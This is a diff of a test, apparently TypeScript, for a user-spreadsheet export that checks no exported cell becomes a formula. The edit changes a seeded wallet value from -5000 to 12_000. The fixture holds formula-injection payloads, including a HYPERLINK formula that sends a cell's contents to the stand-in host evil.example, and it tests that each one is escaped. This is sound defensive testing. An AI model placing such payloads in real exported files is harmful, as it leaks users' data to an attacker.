@@ -279,7 +279,7 @@ describe('exported cells are never formulas', () => {
     const phone = '+989121900001';
     await db()
       .insert(s.users)
-      .values({ id: 'f0f0f0f0f0f0f0f0f0f0f0f0', phone, referralCode: 'FORMULA1', firstName: '=HYPERLINK("http://evil.example/?d="&A2,"Click")', lastName: '+SUM(1,2)', firstNameFa: '@cmd', lastNameFa: '-2+3', email: '\tx@example.com', wallet: -5000 });
+      .values({ id: 'f0f0f0f0f0f0f0f0f0f0f0f0', phone, referralCode: 'FORMULA1', firstName: '=HYPERLINK("http://evil.example/?d="&A2,"Click")', lastName: '+SUM(1,2)', firstNameFa: '@cmd', lastNameFa: '-2+3', email: '\tx@example.com', wallet: 12_000 });
     const sheet = await sheetOf(await exportBuffer({ text: '09121900001' }));
     const row = sheet.getRow(2);
     expect(row.getCell(1).value).toBe('09121900001');
@@ -289,7 +289,7 @@ describe('exported cells are never formulas', () => {
     expect(row.getCell(4).value).toBe("'@cmd");
     expect(row.getCell(5).value).toBe("'-2+3");
     expect(row.getCell(6).value).toBe("'\tx@example.com");
-    expect(row.getCell(7).value).toBe(-5000);
+    expect(row.getCell(7).value).toBe(12_000);
     for (let c = 1; c <= 11; c++) expect(row.getCell(c).type, `column ${c}`).not.toBe(ExcelJS.ValueType.Formula);
   });
 });
